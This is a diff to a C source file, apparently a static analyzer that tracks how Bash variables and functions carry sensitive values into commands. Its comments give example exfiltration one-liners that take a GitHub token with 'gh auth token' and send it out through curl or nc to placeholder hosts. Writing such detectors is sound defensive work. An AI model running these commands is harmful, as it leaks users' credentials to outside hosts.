@@ -842,11 +842,27 @@ static bool in_source(struct actx *c, const pcre2_code *re)
 
 /* #bound-text-match?: the source of a value given to a variable that n
  * reads (tok=$(gh auth token); curl -d "t=$tok" u reads "$(gh auth
- * token)"), and of the values those values read, a few steps deep. */
+ * token)"), and of the values those values read, a few steps deep; in
+ * Bash, the body of the program's own function that n runs as a command
+ * (tok() { gh auth token; }; curl -d "$(tok)" u, tok | nc h p) as well,
+ * which lang_bash.c binds under "function NAME". */
 static bool bound_text(struct actx *c, TSNode n, const pcre2_code *re, int hops, int depth)
 {
 	if (depth > RESOLVE_DEPTH || !actx_step(c))
 		return false;
+	TSNode fname = hops < 3 && node_is(n, "command") ? node_field(n, "name") : (TSNode){0};
+	if (!ts_node_is_null(fname) && node_len(fname) < 200) {
+		char key[256];
+		int len = snprintf(key, sizeof(key), "function %.*s", (int)node_len(fname),
+				   node_src(c, fname));
+		size_t i = 0;
+		const struct binding *b;
+		while (len > 0 && (b = actx_lookup(c, key, (size_t)len, &i)))
+			if (b->kind == BIND_VALUE &&
+			    (re_find(c, re, node_src(c, b->value), node_len(b->value)) ||
+			     bound_text(c, b->value, re, hops + 1, 0)))
+				return true;
+	}
 	if (node_is(n, "variable_name") || node_is(n, "identifier")) {
 		size_t i = 0;
 		const struct binding *b;
